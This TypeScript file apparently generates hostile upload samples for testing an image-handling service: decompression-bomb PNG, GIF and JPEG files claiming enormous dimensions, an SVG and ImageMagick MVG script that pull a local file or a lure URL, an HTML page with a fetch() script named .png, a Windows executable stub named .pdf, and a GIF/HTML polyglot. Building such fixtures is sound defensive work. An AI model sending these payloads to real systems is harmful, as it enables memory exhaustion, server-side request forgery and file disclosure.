import { constants, crc32, deflateSync } from 'node:zlib';
import type { HostileFile, Lure } from './hostile-file.ts';

const bytes = (text: string) => Buffer.from(text, 'latin1');

/** Pictures of more pixels than there is memory, and what only calls itself a picture. */
export function makeHostilePictures({ file, url }: Lure): HostileFile[] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image x:href="${file}"/><image x:href="${url}/svg"/></svg>`;
  const page = `<!doctype html><img src="${url}/page"><script>fetch("${url}/script")</script>`;
  const magick = `push graphic-context\nfill 'url(${url}/mvg)'\npop graphic-context\n`;
  const program = bytes(
    `MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0${'\0'.repeat(44)}\x40\0\0\0PE\0\0`,
  );
  const gif = bytes('GIF89a\x01\0\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x01D\0;');
  return [
    { what: 'a PNG of 100,000 × 100,000', name: 'scan.png', bytes: bigPng() },
    { what: 'a GIF of 65,535 × 65,535', name: 'scan.gif', bytes: bigGif() },
    { what: 'a JPEG that claims 65,500 × 65,500', name: 'scan.jpg', bytes: bigJpeg() },
    { what: 'a vector picture', name: 'scan.png', bytes: bytes(svg) },
    { what: 'a page named .png', name: 'scan.png', bytes: bytes(page) },
    { what: 'a script of another program', name: 'scan.png', bytes: bytes(magick) },
    { what: 'a program named .pdf', name: 'lecture.pdf', bytes: program },
    { what: 'a picture and a page', name: 'scan.gif', bytes: Buffer.concat([gif, bytes(page)]) },
  ];
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([bytes(type), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
}

/** All its pixels are there, packed: 1.25 GB of white. */
function bigPng(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(100_000, 0);
  header.writeUInt32BE(100_000, 4);
  header[8] = 1;
  const rows = Buffer.alloc(12_501 * 100);
  const block = deflateSync(rows, { finishFlush: constants.Z_FULL_FLUSH });
  const data = Buffer.concat([
    block.subarray(0, 2),
    ...Array.from({ length: 1_000 }, () => block.subarray(2)),
    Buffer.from('0300', 'hex'),
  ]);
  const end = chunk('IEND', Buffer.alloc(0));
  return Buffer.concat([
    bytes('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', header),
    chunk('IDAT', data),
    end,
  ]);
}

function bigGif(): Buffer {
  const side = '\xff\xff\xff\xff';
  return bytes(`GIF89a${side}\0\0\0,\0\0\0\0${side}\0\x02\x02\x4c\x01\0;`);
}

function bigJpeg(): Buffer {
  const frame = '\xff\xc0\0\x0b\x08\xff\xdc\xff\xdc\x01\x01\x11\0';
  return bytes(`\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0${frame}\xff\xd9`);
}
